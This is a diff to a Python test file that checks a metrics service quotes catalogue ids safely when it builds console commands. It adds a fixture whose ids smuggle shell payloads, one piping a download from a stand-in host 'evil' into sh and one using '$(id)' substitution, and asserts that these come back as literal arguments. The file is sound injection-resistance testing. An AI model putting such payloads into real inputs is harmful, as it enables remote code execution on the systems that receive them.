@@ -13,10 +13,12 @@ import pytest
 from google.type.date_pb2 import Date
 
 from motcua.metrics.v1.events_pb2 import Filter, Period, Rate, Receipt, StreamPosition
+from motcua.metrics.v1.federation_pb2 import NationalReceipt
 from motcua.metrics.v1.metrics_pb2 import GetRateRequest
 from services.console.commands import explain
 from services.pages.asking import request_of
 from services.pages.questions import question_of
+from services.pages.views import nation
 from services.recomputing import command
 
 
@@ -59,7 +61,23 @@ def test_the_command_names_version_unit_filters_and_positions() -> None:
     )
 
 
-@pytest.mark.parametrize("made", [receipt, filtered, everything])
+def hostile() -> Receipt:
+    """Of a unit and a service whose ids are words of a shell, which the catalogue takes."""
+    made = everything()
+    made.scope.unit, made.scope.service = "units/x;curl${IFS}evil|sh", "services/$(id)'&"
+    return made
+
+
+def test_a_shell_reads_ids_of_the_catalogue_as_names() -> None:
+    options = shlex.split(command(hostile()))
+    assert options[options.index("--unit") + 1] == "units/x;curl${IFS}evil|sh"
+    national = NationalReceipt(service="services/$(id)'&", period=receipt().period)
+    options = shlex.split(nation.command(national))
+    assert options[options.index("--service") + 1] == "services/$(id)'&"
+    assert command(hostile()).count("'units/x;curl${IFS}evil|sh'") == 1
+
+
+@pytest.mark.parametrize("made", [receipt, filtered, everything, hostile])
 def test_the_command_line_reads_it_as_the_question_of_the_receipt(
     monkeypatch: pytest.MonkeyPatch, made: Any
 ) -> None:
